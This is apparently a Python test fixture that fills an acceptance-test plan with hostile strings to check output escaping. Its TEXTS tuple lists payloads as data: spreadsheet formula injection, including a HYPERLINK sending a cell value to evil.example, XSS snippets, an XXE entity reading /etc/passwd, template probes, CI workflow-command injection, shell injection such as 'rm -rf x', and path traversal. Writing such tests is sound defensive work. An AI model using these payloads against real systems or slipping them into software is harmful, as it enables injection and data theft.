"""A plan folder whose every text is an attack on some format, and what the texts are."""

from __future__ import annotations

import os
import re
from typing import TYPE_CHECKING, Any

from acceptance.plans import make_plan

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

TEXTS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "{=1+1}",
    "<script>document.title='evil'</script>",
    "</script></style></title></textarea><script>document.title='evil'</script>",
    "\"><img src=x onerror=\"document.title='evil'\">",
    "' autofocus onfocus='alert(1)",
    "--><svg onload=document.title='evil'>",
    "&amp; &lt;b&gt; &#60;b&#62; &nbsp;",
    "]]><![CDATA[<x>]]>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "{{7*7}} ${7*7} #{7*7} {0} {name} {} %s %(x)s %0A",
    "a | b || c \\| d \\",
    "``code`` `a` ~~~x~~~ ```",
    "[x](javascript:alert(1)) ![y](http://evil.example/z.png) [z]: http://evil.example",
    "<http://evil.example> http://evil.example/a www.evil.example a@evil.example",
    "*a* **b** _c_ __d__ ~~e~~ # f > g - h 1. i #1 @all $x$ :smile:",
    "# heading",
    "1) first",
    "> quote",
    "- item",
    "---",
    "::error file=a,line=1::evil",
    "##[error]evil ::set-output name=x::y %0A::error::z",
    "%0A%0D::stop-commands::x",
    "&P&D&A&\"Arial\"&24",
    "_x000D__x0009_",
    "\\x1b[31m \\u202e \\n \\t",
    "$(touch evil) `touch evil` ; rm -rf x && y",
    "../../../etc/passwd C:\\con\\nul file:///etc/passwd",
    "internal:'Sheet 1'!A1",
    "𝒜𠀀🇨🇳👩🔬",
    "e\u0301\u0323 क्ष ﷽ Z͑ͫ̓a̴l̷g̵o̶",
    "عربي עברית",
    "“历下”\u3000（全角）＝１＋１",
    "地" * 120,
    "x" * 160,
    "null",
    "NaN",
    "true",
    "1e5",
    "2023-01-01",
)  # fmt: skip
"""What a plan file takes as text: one line, nothing invisible."""

UNTIDY = (
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "a\rb\tc\nd",
    "=1+1\r\n::error::evil\n# x\n| y |",
    "\x01\x02\x08\x0b\x0c\x1f\x7f\x85\x9b31m",
    "\u202egnol\u202c \u2066x\u2069 \u200b\u200f\ufeff\u00ad",
    "\u2028line\u2029paragraph",
    "\ufffe\uffff\ue000\U0010ffff",
    '\t=1+1 "quoted" ""',
)
"""What a plan file refuses and a note or a source in a file of actuals may hold, with a warning."""

FOLDER = "=evil [x](javascript:alert) <img src=x onerror=1> ::error::%0A\x1b[31m\n|\u202e" + os.fsdecode(b"\xff")
"""Name of a folder that a file system takes."""

ADDRESS = "https://example.org/"
"""The site of the sources: the only one that a document may link."""

WORKFLOW_COMMAND = re.compile(r"^\s*::|##\[", re.MULTILINE)
"""What a CI runner takes for a command in a log."""


def hostile_plan(folder: Path, *, untidy: bool = False, texts: Sequence[str] = TEXTS) -> Path:
    """Write a plan with one indicator a text, which stands in all its fields; `untidy` texts go into the actuals."""
    indicators = [_indicator(number, words) for number, words in enumerate(texts)]
    baselines = [
        {
            "id": indicator["id"], "value": 100, "unit": indicator["unit"], "source": words, "note": words,
            "derived": words, "op": words, "heading": words, "chapter": 1, "section": 2,
            "growth": {"value": 3, "from": 2015, "to": 2020},
        }
        for indicator, words in zip(indicators, texts, strict=True)
    ]  # fmt: skip
    more = UNTIDY if untidy else ()
    return make_plan(
        folder,
        indicators=indicators,
        baselines=baselines,
        actuals=[row for n, words in enumerate(texts) for row in _actuals(n, words, indicators, more)],
        plan={
            "name": {"zh": texts[6], "en": texts[7]},
            "source": {"title": texts[17], "file": texts[8]},
            "evaluation_years": [2023, 2025],
        },
    )


def identifier(number: int) -> str:
    """Name the indicator of a text."""
    return f"text_{number}"


def _indicator(number: int, words: str) -> dict[str, Any]:
    level = {"wording": words, "heading": words, "value": 90 if number % 3 else 200}
    total = {"form": "every_year", "op": ">=", "value": 50, "year": 2024}
    return {
        "id": identifier(number), "name": {"zh": words, "en": words}, "heading": words, "group": words,
        "unit": unit_of(words), "owner": words, "doubt": words, "measure": "count", "binding": bool(number % 2),
        "targets": [level, total],
    }  # fmt: skip


def unit_of(words: str) -> str:
    """Give the text as a unit, which has no full-width ASCII."""
    return "亿元" if "＝" in words or "1e5" in words else words


def _actuals(
    number: int, words: str, indicators: Sequence[dict[str, Any]], untidy: Sequence[str]
) -> list[dict[str, Any]]:
    one = {"id": identifier(number), "unit": indicators[number]["unit"]}
    later = untidy[number % len(untidy)] if untidy else words
    return [
        {**one, "year": 2021, "value": 101 + number, "source": words, "note": words},
        {**one, "year": 2022, "value": 100 - number, "source": later, "note": later},
        {**one, "year": 2023, "value": 103 + number, "source": f"{ADDRESS}?a=b&c={number}"},
    ]
